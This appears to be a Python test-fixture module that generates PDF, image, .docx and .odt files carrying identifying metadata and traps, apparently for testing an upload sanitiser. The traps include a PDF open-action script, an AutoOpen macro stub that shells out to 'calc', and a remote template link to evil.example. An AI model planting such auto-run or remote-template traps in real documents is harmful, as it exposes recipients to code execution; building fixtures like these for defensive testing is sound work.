"""Files an attacker or a careless sender would upload: each carries identifying metadata or a trap."""

from __future__ import annotations

import io
import zipfile

AUTHOR = "Yasmina Amrani-Private"
GPS_LAT = (48, 51, 29)


def pdf_with_metadata(javascript: bool = False, password: str = "") -> bytes:
    """Return a PDF naming its author in the info dict and XMP, with an attached file, an annotation author."""
    from pypdf import PdfWriter
    from pypdf.generic import ArrayObject, ByteStringObject, DictionaryObject, FloatObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_metadata({"/Author": AUTHOR, "/Creator": "Scanner of " + AUTHOR, "/Title": "Ledger"})
    writer.add_attachment("notes-of-" + AUTHOR + ".txt", ("Written by " + AUTHOR).encode())
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Text"),
        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(30), FloatObject(30)]),
        NameObject("/T"): TextStringObject(AUTHOR), NameObject("/Contents"): TextStringObject("check this")})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
    if javascript:
        action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                   NameObject("/JS"): TextStringObject("app.alert('opened');")})
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if password:
        writer.encrypt(password)
    else:  # a document id, as scanners and word processors write it: it links copies of one file
        writer._ID = ArrayObject([ByteStringObject(b"id-of-" + AUTHOR.encode()), ByteStringObject(b"2" * 16)])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    """Return a JPEG whose EXIF names the camera owner and carries GPS coordinates."""
    from PIL import Image

    img = Image.new("RGB", (64, 48), (10, 120, 200))
    exif = Image.Exif()
    exif[0x013B] = AUTHOR  # Artist
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", GPS_LAT, "E", (2, 17, 40)
    out = io.BytesIO()
    img.save(out, format="JPEG", exif=exif)
    return out.getvalue()


def gif_with_comment() -> bytes:
    """Return a GIF whose comment extension names the author."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("P", (16, 16), 3).save(out, format="GIF", comment=("Drawn by " + AUTHOR).encode())
    return out.getvalue()


CONTENT_TYPES = (b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                 b'2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension='
                 b'"rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override '
                 b'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 b'wordprocessingml.document.main+xml"/><Override PartName="/docProps/core.xml" ContentType='
                 b'"application/vnd.openxmlformats-package.core-properties+xml"/></Types>')
RELS = (b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="word/document.xml"/></Relationships>')
DOCUMENT = (b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            b'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Payments at gate 4</w:t></w:r></w:p></w:body>'
            b'</w:document>')


def docx_with_author(macros: bool = False, template: bool = False) -> bytes:
    """Return a .docx whose core properties name the author; optionally with macros or a remote template."""
    core = ('<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/'
            'package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>'
            f'{AUTHOR}</dc:creator><cp:lastModifiedBy>{AUTHOR}</cp:lastModifiedBy></cp:coreProperties>').encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", RELS)
        zf.writestr("word/document.xml", DOCUMENT)
        zf.writestr("docProps/core.xml", core)
        if macros:
            zf.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen() Shell \"calc\" End Sub")
        if template:
            zf.writestr("word/settings.xml", b'<?xml version="1.0"?><w:settings xmlns:w="http://schemas.'
                        b'openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.'
                        b'org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>')
            zf.writestr("word/_rels/settings.xml.rels", b'<?xml version="1.0"?><Relationships xmlns="http://'
                        b'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
                        b'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                        b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>')
    return out.getvalue()


def odt_with_author() -> bytes:
    """Return an .odt whose meta.xml names the author."""
    meta = ('<?xml version="1.0" encoding="UTF-8"?><office:document-meta xmlns:office="urn:oasis:names:tc:'
            'opendocument:xmlns:office:1.0" xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><office:meta><meta:initial-creator>'
            f'{AUTHOR}</meta:initial-creator><dc:creator>{AUTHOR}</dc:creator></office:meta>'
            '</office:document-meta>').encode()
    content = (b'<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:'
               b'opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
               b'office:version="1.2"><office:body><office:text><text:p>Payments at gate 4</text:p></office:text>'
               b'</office:body></office:document-content>')
    manifest = (b'<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
                b'opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path='
                b'"/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry '
                b'manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry '
                b'manifest:full-path="meta.xml" manifest:media-type="text/xml"/></manifest:manifest>')
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
        zf.writestr("meta.xml", meta, zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
    return out.getvalue()
